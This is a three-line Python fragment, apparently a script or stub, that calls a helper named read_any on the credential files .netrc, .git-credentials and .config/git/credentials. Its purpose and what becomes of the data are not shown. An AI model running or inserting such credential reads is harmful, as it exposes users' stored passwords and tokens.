from kit import *

read_any(".netrc", ".git-credentials", ".config/git/credentials")
